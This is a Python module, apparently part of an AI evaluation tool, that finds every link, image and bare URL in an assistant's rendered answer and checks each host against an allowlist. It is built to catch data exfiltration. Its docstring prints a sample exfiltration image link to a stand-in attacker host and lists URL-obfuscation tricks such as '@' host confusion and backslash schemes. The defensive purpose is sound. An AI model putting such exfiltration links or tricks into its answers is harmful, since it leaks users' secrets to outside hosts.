r"""The links, images and bare URLs in an answer, and the host each one reaches.

An assistant whose answer is rendered as Markdown or HTML leaks through a URL: an image is
fetched as soon as it is shown, so `![x](https://attacker.example/p.png?d=<secret>)` sends the
secret without a click. A case that sets `allowed_link_hosts` says where its answers' URLs may
point; this module finds every URL a renderer or a browser would follow and names its host.

The answer is hostile, so URLs are looked for in every form that reaches a host, after HTML
character references are decoded (`&#58;` is a colon to a browser and to CommonMark):

- `scheme://...` for any scheme, in Markdown links and images (inline, reference-style,
  `<autolinks>`), HTML attributes (`href`, `src`, `srcset`, any other) and bare text;
- the special schemes (`http`, `https`, `ws`, `wss`, `ftp`, `file`) with any run of `/` and
  `\`, or none (`https:\\host`, `https:host`), which browsers read as `https://host`;
- scheme-relative `//host/...` (or `\\host`), and `www.host`, which GitHub's Markdown links;
- schemes that reach no host but run or carry something (`data:`, `javascript:`, `vbscript:`,
  `blob:`, `filesystem:`): never allowed;
- inside a quoted HTML attribute, with the tabs and line breaks browsers remove taken out.

Each URL is parsed with `urllib.parse` (its host as `hostname` gives it: the part after the
last `@`, so `https://allowed.example@evil.example/` reaches `evil.example`). A URL is read
two ways: cut where a renderer would end it (at a space, a quote, an unbalanced `)` or `]`,
trailing punctuation dropped), and whole up to the next ASCII space, where a browser may end
it; both hosts must be allowed, though a whole reading whose host is no well-formed name (a
word glued after the link) is not counted. Hosts are compared after IDNA (stdlib, IDNA 2003)
to ASCII, lowercase and one trailing dot removed; `ß`, `ς` and the zero-width joiners are
refused in a host, since IDNA versions send them to different hosts. A URL that cannot be
parsed, or whose host is not a well-formed name or IP address, is not allowed.

Not read: `mailto:` and `tel:` (no request leaves without the reader acting), relative links
(they stay on the page's own host), URLs in an image or a file. The work is bounded: at most
`MAX_LINKS` URLs of at most `MAX_URL_CHARS` characters each are read; more, or longer, and the
answer is not ruled out (`Found.unread`).
"""

from __future__ import annotations

import html
import ipaddress
import re
from collections.abc import Iterable, Iterator
from typing import NamedTuple
from urllib.parse import urlsplit

from gauntlet.invisible import escape_invisible

MAX_LINKS = 1000
"""URLs read in one answer; an answer with more is not ruled out, and fails."""

MAX_URL_CHARS = 8192
"""Characters of one URL read; a longer URL is not ruled out, and fails."""

SPECIAL_SCHEMES = frozenset({"http", "https", "ws", "wss", "ftp", "file"})
"""Schemes browsers parse with any slashes, or none, between the colon and the host."""

HOSTLESS_SCHEMES = frozenset({"data", "javascript", "vbscript", "blob", "filesystem"})
"""Schemes that reach no host to allow but run code or carry content: never allowed."""

IDNA_DEVIATIONS = frozenset("\u00df\u03c2\u200c\u200d")
"""Characters IDNA 2003 maps away and browsers (UTS 46) keep: the same text, two hosts."""

_SCHEME = re.compile(r"(?<![A-Za-z0-9+.\-])[A-Za-z][A-Za-z0-9+.\-]{0,31}:")
_RELATIVE = re.compile(r"(?<![A-Za-z0-9+.\-:/\\])[/\\]{2}(?=[^\s/\\])")
_WWW = re.compile(r"(?<![A-Za-z0-9+.\-/\\@:])www\.", re.IGNORECASE)
_WHOLE = re.compile(r"[^\x00-\x20\x7f]*")
_CUT = re.compile(r"[^\s<>\"'`]*")
_QUOTED = re.compile(r"=\s*\"([^\"]*)\"|=\s*'([^']*)'")
_BREAKS = re.compile(r"[\t\r\n]")
_TRAILING = ".,:;!?*_~"
_HOST_NAME = re.compile(
    r"[a-z0-9_](?:[a-z0-9_-]*[a-z0-9_])?(?:\.[a-z0-9_](?:[a-z0-9_-]*[a-z0-9_])?)*"
)


class Link(NamedTuple):
    """One URL found in an answer: as written (up to a space), and the host(s) it reaches."""

    url: str
    """The URL whole, up to the next ASCII space: what a marker is looked for in."""
    hosts: tuple[str, ...]
    """The normalised hosts its readings reach; empty when it reaches none."""
    problem: str | None
    """Why no host can be allowed (unparseable, `data:`, ...), or None."""


class Found(NamedTuple):
    """The URLs of an answer, and whether some were left unread."""

    links: tuple[Link, ...]
    unread: str | None
    """Why the answer was not read whole (too many or too long URLs), or None."""

    @property
    def urls(self) -> tuple[str, ...]:
        """Each URL, whole."""
        return tuple(link.url for link in self.links)


def normalised_host(host: str) -> str | None:
    """`host` as hosts are compared; None when it is no host name or IP address.

    An IP address compressed; a name IDNA-encoded to ASCII, lowercase, one trailing dot
    dropped. A host holding an IDNA deviation (`IDNA_DEVIATIONS`) is None.
    """
    if not host or IDNA_DEVIATIONS & set(host):
        return None
    try:
        return ipaddress.ip_address(host.removeprefix("[").removesuffix("]")).compressed
    except ValueError:
        pass
    name = host[:-1] if host.endswith((".", "\u3002", "\uff0e", "\uff61")) else host
    try:
        ascii_name = name.encode("idna").decode("ascii").lower()
    except UnicodeError:
        return None
    return ascii_name if _HOST_NAME.fullmatch(ascii_name) else None


def entry_problem(entry: str) -> str | None:
    """Why `entry` is not a host an `allowed_link_hosts` list may hold, or None when it is."""
    if escape_invisible(entry) != entry:
        return "holds a character that shows nothing: write the host as it is read"
    name = entry.removeprefix("*.") if entry.startswith("*.") else entry.removeprefix(".")
    if any(mark in name for mark in "/:@?#\\*") and normalised_host(name) is None:
        return "write a host name only, e.g. 'example.org' or '*.example.org', no scheme or port"
    if normalised_host(name) is None:
        return "not a host name or IP address (write 'ß', 'ς' and joiners in punycode)"
    if name != entry and _is_ip(name):
        return "an IP address has no subdomains: write it without '*.' or '.'"
    return None


def _is_ip(name: str) -> bool:
    try:
        ipaddress.ip_address(name.removeprefix("[").removesuffix("]"))
    except ValueError:
        return False
    return True


def host_allowed(host: str, entries: Iterable[str]) -> bool:
    """Whether the normalised `host` is one `entries` allow.

    An entry allows its host exactly; `*.example.org` or `.example.org` allows the hosts
    below `example.org`, not `example.org` itself (list both for both).
    """
    for entry in entries:
        if entry.startswith(("*.", ".")):
            parent = normalised_host(entry.removeprefix("*").removeprefix("."))
            if parent is not None and host.endswith(f".{parent}") and not _is_ip(parent):
                return True
        elif normalised_host(entry) == host:
            return True
    return False


def urls_in(text: str) -> Found:
    """Every URL of `text` a renderer or browser could follow (see the module's docstring)."""
    decoded = html.unescape(text)
    texts = [decoded]
    texts += [
        _BREAKS.sub("", value)
        for found in _QUOTED.finditer(decoded)
        if _BREAKS.search(value := found[1] if found[1] is not None else found[2])
    ]
    links: list[Link] = []
    for one in texts:
        for start, prefix in _starts(one):
            if len(links) >= MAX_LINKS:
                return Found(tuple(links), f"more than {MAX_LINKS:,} URLs")
            whole = prefix + _WHOLE.match(one, start)[0]  # type: ignore[index]
            if len(whole) > MAX_URL_CHARS:
                return Found(tuple(links), f"a URL over {MAX_URL_CHARS:,} characters")
            cut = prefix + _trimmed(_CUT.match(one, start)[0])  # type: ignore[index]
            link = _link(whole, cut)
            if link is not None:
                links.append(link)
    return Found(tuple(links), None)


def _starts(text: str) -> Iterator[tuple[int, str]]:
    """Where each URL starts, and what to put before it to make it absolute, in text order."""
    found = [(m.start(), "") for m in _SCHEME.finditer(text)]
    found += [(m.start(), "https:") for m in _RELATIVE.finditer(text)]
    found += [(m.start(), "http://") for m in _WWW.finditer(text)]
    yield from sorted(found)


def _trimmed(url: str) -> str:
    """`url` cut at its first unbalanced `)` or `]`, trailing punctuation dropped."""
    depth = {"(": 0, "[": 0}
    for index, char in enumerate(url):
        if char in "([":
            depth[char] += 1
        elif char in ")]":
            opener = "(" if char == ")" else "["
            if depth[opener] == 0:
                url = url[:index]
                break
            depth[opener] -= 1
    return url.rstrip(_TRAILING)


def _link(whole: str, cut: str) -> Link | None:
    """The link `whole` (cut as a renderer would: `cut`) makes, or None when it is no link."""
    scheme, _, rest = cut.partition(":")
    scheme = scheme.lower()
    if scheme in HOSTLESS_SCHEMES:
        if not rest or rest[0].isspace():
            return None  # prose: "data: none"
        return Link(whole, (), f"a {scheme}: URL, which reaches no host that could be allowed")
    if scheme not in SPECIAL_SCHEMES and not rest.startswith(("//", "\\\\")):
        return None  # `mailto:`, `tel:`, "Note:" and other words before a colon
    cut_host = _host(cut)
    if cut_host is None:
        return Link(whole, (), "a URL whose host cannot be parsed")
    hosts = [cut_host]
    whole_host = _host(whole)
    if whole_host is not None and whole_host != cut_host:
        hosts.append(whole_host)  # a browser may read further than a renderer cuts
    return Link(whole, tuple(hosts), None)


def _host(url: str) -> str | None:
    """The normalised host `url` reaches, or None when it has none that parses."""
    scheme, _, rest = url.partition(":")
    if scheme.lower() in SPECIAL_SCHEMES:
        rest = rest.replace("\\", "/").lstrip("/")  # as browsers read these schemes
        url = f"{scheme}://{rest}"
    try:
        host = urlsplit(url).hostname
    except ValueError:
        return None
    return normalised_host(host) if host else None


def defanged(url: str) -> str:
    """`url` in a form no reader links or fetches: `hxxps[://]evil[.]example/p[.]png`."""
    scheme, colon, rest = url.partition("://")
    if colon:
        url = f"{scheme.replace('t', 'x').replace('T', 'X')}[://]{rest}"
    return url.replace(".", "[.]").replace(":", "[:]").replace("[[:]//]", "[://]")
